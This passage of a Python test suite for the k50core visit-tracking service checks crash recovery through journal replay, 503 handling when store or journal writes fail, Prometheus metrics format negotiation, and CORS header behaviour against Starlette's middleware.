                        assert r.status_code == 200 and r.json()["number"]
                        rows = reader.conn.cursor()
                        rows.execute(reader._sql("SELECT count(*) FROM visits WHERE visitor_id = ?"), (f"c{i}",))
                        if rows.fetchone()[0] == 1:
                            return
                        if e.lease_recorder.journal is not None and f"c{i}" in on_disk_journal():
                            journaled.add(i)
                        else:
                            missing.append(i)
                    await asyncio.gather(*(one(i) for i in range(40)))
    try:
        asyncio.run(run())
        assert missing == []
        if e.lease_recorder.journal is not None:   # the answers did not wait for the store: some were only journaled
            assert journaled
        assert e.store.count("visits") == 40 and e.store.count("leases") >= 10
        assert e.lease_recorder.journal is None or e.lease_recorder.journal.unstored == 0   # all stored
    finally:
        e.close()
    assert not glob.glob(glob.escape(e.store.path) + ".starts-*")   # and, closed, the journal is gone


def test_a_killed_service_loses_no_visit_it_answered(tmp_path):
    """`k50core serve` with a SQLite file, SIGKILLed right after answering new visitors: an engine
    opening the store replays the journal, and every answered visit is there with its campaign."""
    import os
    import signal
    from concurrent.futures import ThreadPoolExecutor

    db = str(tmp_path / "k50.db")
    proc, base = start_serve("--store", db, "--no-rate-limits")
    try:
        def one(i):
            with httpx.Client() as c:
                return browser_visit(c, f"{base}/v1/visit", url=CAMPAIGN, visitor_id=f"k{i}").json()

        with ThreadPoolExecutor(8) as pool:
            answers = list(pool.map(one, range(60)))
        os.kill(proc.pid, signal.SIGKILL)  # within the second before the store would have had them
        proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(timeout=30)
    assert all(a["number"] for a in answers)
    import sqlite3
    with sqlite3.connect(db) as raw:   # at the kill: each answered visit in the store or in the journal
        before = {r[0] for r in raw.execute("SELECT visitor_id FROM visits")}
    journaled = {json.loads(line)[0]["visitor_id"] for path in tmp_path.glob("k50.db.starts-*")
                 for line in journal_lines(str(path))}
    assert before | journaled >= {f"k{i}" for i in range(60)}
    with Engine.from_config(demo_config_path(), store=db) as fresh:
        rows = fresh.store.conn.execute("SELECT visitor_id, attributes FROM visits").fetchall()
    stored = {vid: json.loads(attrs) for vid, attrs in rows}
    assert set(stored) >= {f"k{i}" for i in range(60)}
    assert all(stored[f"k{i}"]["utm"]["utm_campaign"] == "spring_sale" for i in range(60))


def test_a_failed_store_write_is_a_503_and_nothing_is_lost(store_url, clock, caplog):
    """The store fails once. PostgreSQL: the visit that waited for it is told to retry (503, no
    internals), its lease start stays queued, and the next write stores it. A SQLite file: the
    visit waited for the journal only (200); the background write fails, is logged, and the next
    one stores the start."""
    e = Engine.from_config(demo_config_path(), store=store_url)
    real = e.store.save_writes
    fail = [True]

    def flaky(starts, events=(), durable=False, replayed=False):
        if fail and starts:
            fail.pop()
            raise RuntimeError("disk on fire")
        return real(starts, events, durable, replayed)
    e.store.save_writes = flaky
    try:
        with TestClient(create_app(e, now=clock), raise_server_exceptions=False) as c:
            r = browser_visit(c, url=CAMPAIGN, visitor_id="unlucky")
            if e.lease_recorder.journal is None:
                assert r.status_code == 503 and r.json() == {"error": "storage unavailable, try again"}
                assert "fire" not in r.text and r.headers["retry-after"] == "1"
            else:
                assert r.status_code == 200 and fail == [True]      # nothing written yet
                for _ in range(100):  # the lease log's writer, every second
                    if not fail:
                        break
                    time.sleep(0.05)
            assert "lease starts" in caplog.text and "disk on fire" in caplog.text   # logged, with its cause
            ok = browser_visit(c, url=CAMPAIGN, visitor_id="next")
            assert ok.status_code == 200
        cur = e.store.conn.cursor()
        cur.execute(e.store._sql("SELECT count(*) FROM visits WHERE visitor_id IN (?, ?)"), ("unlucky", "next"))
        assert cur.fetchone()[0] == 2
    finally:
        e.close()


def test_a_failing_journal_disk_falls_back_to_the_store_then_503(tmp_path, clock, caplog):
    """The journal's write fails (a full disk): the start goes to the store directly (200). Both
    fail: 503, the start queued, stored by the next write; nothing is lost."""
    e = Engine.from_config(demo_config_path(), store=str(tmp_path / "k50.db"))
    journal_fails = [True, True]
    real_append, real_save = e.lease_recorder.journal.append, e.store.save_writes
    store_fails = []

    def append(starts):
        if journal_fails:
            journal_fails.pop()
            raise OSError(28, "No space left on device")
        return real_append(starts)

    def save(starts, events=(), durable=False, replayed=False):
        if store_fails and starts:
            store_fails.pop()
            raise RuntimeError("disk on fire")
        return real_save(starts, events, durable, replayed)
    e.lease_recorder.journal.append, e.store.save_writes = append, save
    try:
        with TestClient(create_app(e, now=clock), raise_server_exceptions=False) as c:
            first = browser_visit(c, url=CAMPAIGN, visitor_id="direct")
            assert first.status_code == 200 and e.store.count("visits") == 1   # stored right away
            store_fails.append(True)
            both = browser_visit(c, url=CAMPAIGN, visitor_id="queued")
            assert both.status_code == 503 and "fire" not in both.text and "space" not in both.text
            assert "journal failed" in caplog.text
            later = browser_visit(c, url=CAMPAIGN, visitor_id="later")   # journal works again
            assert later.status_code == 200
        cur = e.store.conn.cursor()
        cur.execute("SELECT visitor_id FROM visits")
        assert {r[0] for r in cur.fetchall()} == {"direct", "queued", "later"}
    finally:
        e.close()
    assert not list(tmp_path.glob("k50.db.starts-*"))   # all stored: no journal left




def test_metrics_speak_the_format_the_scraper_asks_for(engine, clock):
    """prometheus_client's negotiation: the text format by default, OpenMetrics when the scraper asks."""
    app = create_app(engine, api_keys=[KEY], now=clock)
    with TestClient(app) as c:
        plain = c.get("/metrics", headers=AUTH)
        assert plain.headers["content-type"].startswith("text/plain") and "# EOF" not in plain.text
        om = c.get("/metrics", headers={**AUTH, "Accept": "application/openmetrics-text; version=1.0.0"})
        assert om.headers["content-type"].startswith("application/openmetrics-text")
        assert om.text.endswith("# EOF\n") and metric(om.text, "k50_pool_numbers", pool="msk") == 10
        assert c.get("/metrics", headers={"Accept": "application/openmetrics-text"}).status_code == 401


@pytest.mark.parametrize("origins", [[SITE], ["*"], []])
def test_public_cors_answers_as_starlettes_middleware(engine, clock, origins):
    """The public endpoints' CORS headers (kept per Origin) are the ones Starlette's CORSMiddleware gives
    the same request, for an allowed, another and no Origin; the kept origins are bounded."""
    from starlette.middleware.cors import CORSMiddleware

    from k50core.bindings.service import cors

    app = create_app(engine, cors_origins=origins, now=clock, rate_limits=None)
    plain = CORSMiddleware(app.public, allow_origins=origins, allow_methods=["POST", "OPTIONS"],
                           allow_headers=["Content-Type"], allow_credentials=True, max_age=600)

    def cors_headers(client, origin):
        r = client.post("/v1/heartbeat", json={"token": "0.1.1"}, headers={} if origin is None else {"Origin": origin})
        return r.status_code, sorted((k, v) for k, v in r.headers.items() if k.startswith("access-control") or k == "vary")

    theirs = TestClient(plain)  # the same endpoints; the app's lifespan (below) runs the service
    with TestClient(app) as ours:
        for origin in (SITE, "https://evil.example", None, SITE):
            assert cors_headers(ours, origin) == cors_headers(theirs, origin), origin
        for i in range(cors.ORIGINS_KEPT + 5):
            cors_headers(ours, f"https://site{i}.example")
        assert len(app.public_cors._added) <= cors.ORIGINS_KEPT
